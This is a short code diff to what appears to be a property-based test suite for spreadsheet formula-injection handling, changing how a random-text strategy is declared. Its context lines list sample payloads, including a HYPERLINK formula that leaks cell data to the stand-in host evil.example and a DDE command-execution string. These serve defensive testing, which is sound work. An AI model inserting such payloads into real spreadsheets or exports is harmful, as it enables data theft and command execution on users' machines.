@@ -231,7 +231,7 @@ _TRIGGERS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "'=", ""
 _FORMULAS = st.sampled_from(
     ['HYPERLINK("http://evil.example/?d="&A1,"open")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)"]
 )
-_TEXT = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=30)
+_TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=30)
 
 
 @st.composite
